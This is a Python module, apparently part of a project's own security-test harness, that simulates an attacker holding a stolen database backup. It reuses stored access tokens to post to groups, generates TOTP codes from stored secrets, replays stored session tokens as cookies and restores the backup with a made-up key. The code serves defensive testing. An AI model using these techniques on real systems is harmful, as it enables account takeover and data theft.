"""Whoever has a backup of the whole database: they make of it what it yields."""

import asyncio
import json
import sys
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import aiohttp
import pyotp

from attack.attackers.tokens import post
from attack.attackers.trade import Attacker
from deploy.backup.sealed_file import header_of


def table(attacker: Attacker, name: str) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = json.loads(Path(attacker.holds["BACKUP"]).read_bytes())[name]
    return rows


async def tokens(attacker: Attacker) -> None:
    """Post with what accounts send with."""
    known = [row["access_token"] for row in table(attacker, "zalo.accounts") if row["access_token"]]
    await post(attacker, known, (row["group_id"] for row in table(attacker, "broadcast.groups")))


async def codes(attacker: Attacker) -> None:
    """Log in with a password that was learnt elsewhere, and a code of its owner's phone."""
    login = attacker.holds["LOGIN"]
    (person,) = (row for row in table(attacker, "staff.accounts") if row["login"] == login)
    try:
        code = pyotp.TOTP(person["totp_secret"]).now()
    except ValueError as refusal:
        attacker.refused.append(f"no secret of codes: {refusal}")
        code = ""
    form = {"login": login, "password": attacker.holds["PASSWORD"], "code": code}
    async with (
        aiohttp.ClientSession(attacker.knows["desk_url"]) as http,
        http.post("/login", data=form, allow_redirects=False) as answer,
    ):
        await attacker.takes(answer)


async def sessions(attacker: Attacker) -> None:
    """Read cases by the sessions that stand in it."""
    async with aiohttp.ClientSession(attacker.knows["desk_url"]) as http:
        for row in table(attacker, "staff.sessions"):
            stored = bytes.fromhex(row["token_sha256"].removeprefix("\\x"))
            token = stored.decode() if stored.isascii() else stored.hex()
            async with http.get("/api/v1/cases", headers={"Cookie": f"loa_session={token}"}) as answer:
                await attacker.takes(answer)


async def restore(attacker: Attacker) -> None:
    """A database of one's own out of the file: with the key that one has, or with one that is made up."""
    with TemporaryDirectory() as folder:
        keys = attacker.holds.get("BACKUP_KEYS_DIR")
        if keys is None:
            keys, week = folder, header_of(Path(attacker.holds["BACKUP_FILE"])).week
            (Path(folder) / f"{week}.key").write_text("00" * 32)
        given = {"DATABASE_URL": attacker.holds["DATABASE_URL"], "BACKUP_KEYS_DIR": keys}
        process = await asyncio.create_subprocess_exec(
            sys.executable,
            *("-m", "deploy.loa", "restore", attacker.holds["BACKUP_FILE"], "--without-anchors"),
            env={**given, "LOA_ENVIRONMENT": attacker.knows["environment"]},
            cwd=attacker.knows["source"],
            stdout=asyncio.subprocess.DEVNULL,
            stderr=asyncio.subprocess.PIPE,
        )
        _, problem = await process.communicate()
    if process.returncode:
        attacker.refused.append(problem.decode(errors="replace").strip())
